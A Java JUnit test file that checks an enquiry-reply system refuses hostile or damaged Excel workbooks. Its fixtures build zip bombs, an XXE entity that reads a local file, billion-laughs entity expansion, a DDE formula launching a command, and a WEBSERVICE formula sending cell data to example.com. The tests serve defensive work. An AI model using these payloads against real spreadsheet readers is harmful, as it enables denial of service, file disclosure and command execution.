package org.rashinban.exchange.reply;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.HexFormat;
import java.util.List;
import java.util.Locale;
import java.util.Random;
import java.util.function.UnaryOperator;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.apache.poi.xssf.usermodel.XSSFRow;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.rashinban.core.enquiry.Outcome;
import org.rashinban.exchange.Rounds;
import org.rashinban.exchange.SavedForm;
import org.rashinban.model.Enquiry;
import org.rashinban.model.EnquiryForm;

/** Files that somebody made to do harm, or that were harmed on their way. They run in the half gigabyte that all tests have. */
@Timeout(60)
class HostileFilesTest {

    private static final String SHEET = "xl/worksheets/sheet2.xml";
    private static final int MEGABYTE = 1 << 20;

    @TempDir
    Path folder;

    private Enquiry enquiry;
    private Path form;

    @BeforeEach
    void issue() throws IOException {
        enquiry = Rounds.open(Rounds.program("hamamatsu"), Rounds.order("照会"));
        form = Rounds.issue(enquiry, folder.resolve("issued")).getLast().file();
    }

    private String refusal(Path file) {
        Collected collected = Returns.of(enquiry, file).collected();
        assertThat(collected.rows()).isEmpty();
        assertThat(collected.refused()).singleElement().satisfies(one -> assertThat(one.why().in(Locale.ENGLISH)).endsWith("."));
        return collected.refused().getFirst().why().in(Locale.JAPANESE);
    }

    private SavedForm saved() throws IOException {
        return SavedForm.open(form);
    }

    /** A workbook with one part that is far larger than it looks. */
    private Path bomb(String part, int megabytes, String begin, String filling) throws IOException {
        Path file = folder.resolve("bomb.xlsx");
        byte[] block = filling.repeat(MEGABYTE / filling.length()).getBytes(StandardCharsets.UTF_8);
        try (OutputStream out = Files.newOutputStream(file); ZipOutputStream zip = new ZipOutputStream(out)) {
            for (String needed : new String[] {"[Content_Types].xml", "xl/workbook.xml"}) {
                zip.putNextEntry(new ZipEntry(needed));
                zip.write("<a/>".getBytes(StandardCharsets.UTF_8));
            }
            zip.putNextEntry(new ZipEntry(part));
            zip.write(begin.getBytes(StandardCharsets.UTF_8));
            for (int i = 0; i < megabytes; i++) {
                zip.write(block);
            }
        }
        return file;
    }

    @Test
    void aSheetOfAGigabyteIsPutAwayBeforeItIsUnpacked() throws IOException {
        Path file = bomb(SHEET, 1024, "<worksheet><sheetData>", "<row><c><v>1</v></c></row>");
        assertThat(Files.size(file)).isLessThan(20L * MEGABYTE);
        assertThat(refusal(file)).startsWith("回答票として想定される量を大きく超えている");
    }

    @Test
    void aZipBombIsPutAway() throws IOException {
        assertThat(refusal(bomb("xl/sharedStrings.xml", 300, "<sst>", " "))).contains("想定される量");
    }

    @Test
    void partsThatAreHeldAsATreeAreLimitedHoweverLittleTheyCanBePacked() throws IOException {
        byte[] noise = new byte[3 * MEGABYTE / 2];
        new Random(20240401).nextBytes(noise);
        String properties = "<Properties xmlns=\"http://schemas.openxmlformats.org/officeDocument/2006/custom-properties\"><!--"
                + HexFormat.of().formatHex(noise) + "--></Properties>";

        Path file = saved().add("docProps/custom.xml", properties.getBytes(StandardCharsets.UTF_8)).save(folder.resolve("custom.xlsx"));

        assertThat(Files.size(file)).as("packed").isGreaterThan(MEGABYTE);
        assertThat(refusal(file)).contains("想定される量");
    }

    @Test
    void aTreeUnderTheNameOfASheetIsLimitedToo() throws IOException {
        String styles =
                "<styleSheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><cellXfs>" + "<xf/>".repeat(MEGABYTE)
                        + "</cellXfs></styleSheet>";

        Path file = saved().replace("[Content_Types].xml", types -> types.replace("/xl/styles.xml", "/xl/worksheets/sheet9.xml"))
                .replace("xl/_rels/workbook.xml.rels", parts -> parts.replace("styles.xml", "worksheets/sheet9.xml"))
                .add("xl/worksheets/sheet9.xml", styles.getBytes(StandardCharsets.UTF_8)).save(folder.resolve("styles.xlsx"));

        assertThat(refusal(file)).contains("想定される量");
    }

    @Test
    void aNumberWithoutEndIsNoneAndTheOthersAreRead() throws IOException {
        Path file = saved().number("I5", Double.NaN).number("I6", 3).save(folder.resolve("nan.xlsx"));
        assertThat(Returns.of(enquiry, file).rows(Outcome.UNREADABLE)).hasSize(1);
        assertThat(Returns.of(enquiry, file).rows(Outcome.NEW)).hasSize(1);
        Path large = saved().number("I5", Double.POSITIVE_INFINITY).save(folder.resolve("infinite.xlsx"));
        assertThat(Returns.of(enquiry, large).rows(Outcome.UNREADABLE)).hasSize(1);
    }

    @Test
    void manySmallPartsAreNoForm() throws IOException {
        SavedForm many = saved();
        for (int i = 0; i < 500; i++) {
            many.add("xl/media/" + i + ".bin", new byte[1]);
        }
        assertThat(refusal(many.save(folder.resolve("many.xlsx")))).contains("想定される量");
    }

    @Test
    void aSheetFullOfCellsIsNotReadToItsEnd() throws IOException {
        // Numbers by chance, because what packs too well is put away for that alone.
        Random random = new Random(7);
        String cells =
                Stream.generate(() -> "<c r=\"A9\"><v>" + random.nextLong() + "</v></c>").limit(400_000).collect(Collectors.joining());
        Path file = saved().save(folder.resolve("cells.xlsx"));
        Path full = rewritten(file, text -> text.replace("<sheetData>", "<sheetData><row r=\"9\">" + cells + "</row>"));
        assertThat(refusal(full)).contains("想定される量");
    }

    private Path rewritten(Path file, UnaryOperator<String> change) throws IOException {
        // The sheet was just saved, so that its text stands in the file and can be changed as a whole.
        return SavedFormText.change(file, SHEET, change, folder.resolve("rewritten.xlsx"));
    }

    @Test
    void whatReachesForOtherFilesIsNotRead() throws IOException {
        Path secret = Files.writeString(folder.resolve("secret.txt"), "secret");
        Path file = rewritten(saved().save(folder.resolve("a.xlsx")), text -> text.replaceFirst("<worksheet",
                "<!DOCTYPE worksheet [<!ENTITY x SYSTEM \"" + secret.toUri() + "\">]><worksheet"));
        assertThat(refusal(file)).contains("DTD");
    }

    @Test
    void entitiesThatGrowWithoutEndAreNotRead() throws IOException {
        StringBuilder dtd = new StringBuilder("<!DOCTYPE sst [<!ENTITY a0 \"ha\">");
        for (int i = 1; i < 30; i++) {
            dtd.append("<!ENTITY a").append(i).append(" \"&a").append(i - 1).append(";&a").append(i - 1).append(";\">");
        }
        Path file = SavedFormText.change(saved().save(folder.resolve("b.xlsx")), "xl/sharedStrings.xml",
                text -> text.replaceFirst("<sst", dtd + "]><sst").replaceFirst("<t>", "<t>&a29;"), folder.resolve("laughs.xlsx"));
        assertThat(refusal(file)).contains("DTD");
    }

    @Test
    void aDocumentTypeInAnotherEncodingIsFoundToo() throws IOException {
        Path file = folder.resolve("wide.xlsx");
        saved().add("xl/other.xml", "<?xml version=\"1.0\" encoding=\"UTF-16\"?><!DOCTYPE x>".getBytes(StandardCharsets.UTF_16LE))
                .save(file);
        assertThat(refusal(file)).contains("DTD");
    }

    @Test
    void aBrokenFileIsToldFromASoundOne() throws IOException {
        byte[] whole = Files.readAllBytes(form);
        for (int length : new int[] {5, 30, 1000, whole.length / 2, whole.length - 30}) {
            assertThat(refusal(Files.write(folder.resolve("cut.xlsx"), Arrays.copyOf(whole, length)))).startsWith("ファイルが壊れている");
        }
    }

    @Test
    void bytesChangedByChanceNeverGoBeyondASentence() throws IOException {
        byte[] whole = Files.readAllBytes(form);
        Random random = new Random(7);
        for (int i = 0; i < 60; i++) {
            byte[] harmed = whole.clone();
            for (int k = 0; k < 20; k++) {
                harmed[random.nextInt(harmed.length)] = (byte) random.nextInt();
            }
            Collected collected = Returns.of(enquiry, Files.write(folder.resolve("harmed.xlsx"), harmed)).collected();
            assertThat(collected.refused().size() + collected.files().size()).isEqualTo(1);
        }
    }

    @Test
    void aProgramUnderTheNameOfAWorkbookIsNone() throws IOException {
        byte[] program = new byte[4096];
        program[0] = 'M';
        program[1] = 'Z';
        assertThat(refusal(Files.write(folder.resolve("回答.xlsx"), program))).isEqualTo("ファイル名にかかわらず、中身がExcelブックではありません。");
        assertThat(refusal(Files.write(folder.resolve("空.xlsx"), new byte[0]))).isEqualTo("ファイルが空です。");
        assertThat(refusal(Files.writeString(folder.resolve("文.xls"), "<html>"))).contains("Excelブックではありません");
    }

    @Test
    void macrosPasswordsAndOtherFormatsAreNamed() throws IOException {
        assertThat(refusal(saved().add("xl/vbaProject.bin", new byte[9]).save(folder.resolve("m.xlsm")))).contains("マクロ");
        try (POIFSFileSystem system = new POIFSFileSystem(); OutputStream out = Files.newOutputStream(folder.resolve("p.xlsx"))) {
            system.createDocument(new ByteArrayInputStream(new byte[9]), "EncryptedPackage");
            system.writeFilesystem(out);
        }
        assertThat(refusal(folder.resolve("p.xlsx"))).contains("パスワード");
        Path document = folder.resolve("o.ods");
        try (OutputStream out = Files.newOutputStream(document); ZipOutputStream zip = new ZipOutputStream(out)) {
            zip.putNextEntry(new ZipEntry("mimetype"));
            zip.putNextEntry(new ZipEntry("content.xml"));
        }
        assertThat(refusal(document)).contains("OpenDocument");
    }

    @Test
    void aFormulaThatCallsOutIsRefusedAndTheOthersAreRead() throws IOException {
        Path file = saved().formula("I5", "cmd|' /C calc'!A0", "1").number("I6", 3).save(folder.resolve("dde.xlsx"));
        Returns returns = Returns.of(enquiry, file);
        assertThat(returns.rows(Outcome.UNREADABLE)).singleElement()
                .satisfies(row -> assertThat(Returns.said(row)).startsWith("ブックの外部を呼び出す数式"));
        assertThat(returns.rows(Outcome.NEW)).hasSize(1);
        Path web = saved().formula("N5", "WEBSERVICE(\"http://example.com/\"&I5)", "1").save(folder.resolve("web.xlsx"));
        assertThat(Returns.of(enquiry, web).rows(Outcome.UNREADABLE)).hasSize(1);
    }

    /** Each of them compared with each other one would keep the office waiting for hours. */
    @Test
    @Timeout(120)
    void rowsThatWereNeverAskedForCostNothing() throws IOException {
        Path file = folder.resolve("rows.xlsx");
        try (XSSFWorkbook workbook = new XSSFWorkbook(Files.newInputStream(saved().number("I5", 3).save(folder.resolve("one.xlsx"))));
                OutputStream out = Files.newOutputStream(file)) {
            XSSFSheet answers = workbook.getSheetAt(1);
            XSSFSheet hidden = workbook.getSheetAt(2);
            for (int i = 0; i < 4000; i++) {
                XSSFRow claimed = hidden.createRow(1000 + i);
                claimed.createCell(0).setCellValue("row");
                claimed.createCell(1).setCellValue("k" + i);
                claimed.createCell(4).setCellValue("t" + i + "あ゛".repeat(100));
                XSSFRow answer = answers.createRow(1000 + i);
                answer.createCell(0).setCellValue("k" + i);
                answer.createCell(3).setCellValue("x" + "あ゛".repeat(100));
            }
            workbook.write(out);
        }
        assertThat(Returns.of(enquiry, file).collected().rows()).filteredOn(row -> row.outcome() == Outcome.NEW
                || row.outcome() == Outcome.CONFLICTING).as("what was asked").hasSize(1);
    }

    @Test
    void aRowThatIsThereAHundredTimesIsNotPutTogether() throws IOException {
        Path file = folder.resolve("copies.xlsx");
        try (XSSFWorkbook workbook = new XSSFWorkbook(Files.newInputStream(saved().number("I5", 3).save(folder.resolve("one.xlsx"))));
                OutputStream out = Files.newOutputStream(file)) {
            XSSFSheet answers = workbook.getSheetAt(1);
            String key = answers.getRow(4).getCell(0).getStringCellValue();
            for (int i = 0; i < 100; i++) {
                XSSFRow copy = answers.createRow(1000 + i);
                copy.createCell(0).setCellValue(key);
                copy.createCell(8).setCellValue(3);
                copy.createCell(13).setCellValue("その" + i);
            }
            workbook.write(out);
        }
        assertThat(Returns.of(enquiry, file).rows(Outcome.CONFLICTING)).singleElement()
                .satisfies(row -> assertThat(Returns.said(row)).contains("複数あります"));
    }

    @Test
    void oneBadFileDoesNotLoseTheOthers() throws IOException {
        Path good = saved().number("I5", 3).save(folder.resolve("good.xlsx"));
        Path bad = Files.writeString(folder.resolve("bad.xlsx"), "nothing");
        Returns returns = Returns.of(enquiry, bad, good);
        assertThat(returns.collected().refused()).hasSize(1);
        assertThat(returns.rows(Outcome.NEW)).hasSize(1);
    }

    @Test
    void aWorkbookOfSomethingElseIsNoForm() throws IOException {
        Path other = folder.resolve("other.xlsx");
        try (var workbook = new XSSFWorkbook(); OutputStream out = Files.newOutputStream(other)) {
            workbook.createSheet("予算").createRow(0).createCell(0).setCellValue("金額");
            workbook.write(out);
        }
        assertThat(refusal(other)).isEqualTo("照会の回答票ではないブックです。");
    }

    /** Texts at which a careless search goes back and forth for hours. */
    @ParameterizedTest
    @ValueSource(strings = {"|", "CALL ", "(", "1,", "令和", "2024/", "－", "約", " "})
    void endlessTextsAreReadInBoundedTime(String piece) throws IOException {
        String text = "=" + piece.repeat(32_000 / piece.length());
        SavedForm endless = saved();
        for (String column : List.of("I", "J", "K", "L", "M", "N", "O", "C", "D", "E", "F")) {
            for (int row = SavedForm.FIRST_ROW; row < SavedForm.FIRST_ROW + 2; row++) {
                endless.text(column + row, column.equals("I") ? text.substring(1) : text);
            }
        }
        Returns returns = Returns.of(enquiry, endless.save(folder.resolve("endless/form.xlsx")));
        assertThat(returns.collected().rows()).noneMatch(CollectedRow::canBeAccepted);
    }

    @Test
    void aFaultOfTheProgramAtOneFormDoesNotLoseTheOthers() throws IOException {
        EnquiryForm damaged = enquiry.getForms().getLast();
        EnquiryForm sound = enquiry.getForms().getFirst();
        Path other = Rounds.issue(enquiry, folder.resolve("others")).getFirst().file();
        damaged.getAsked().getFirst().setPeriod(null);
        Collected collected = Returns.of(enquiry, form, SavedForm.open(other).number("I14", 240).save(folder.resolve("back/other.xlsx")))
                .collected();
        assertThat(collected.files()).singleElement().satisfies(file -> assertThat(file.form()).contains(sound));
        assertThat(collected.rows()).anyMatch(row -> row.outcome() == Outcome.NEW);
        assertThat(collected.refused()).singleElement().satisfies(file -> {
            assertThat(file.name()).isEqualTo(form.getFileName().toString());
            assertThat(file.why().in(Locale.JAPANESE)).startsWith("プログラムの不具合により、このファイルだけ読み取れませんでした");
            assertThat(file.fault()).isPresent();
        });
    }
}
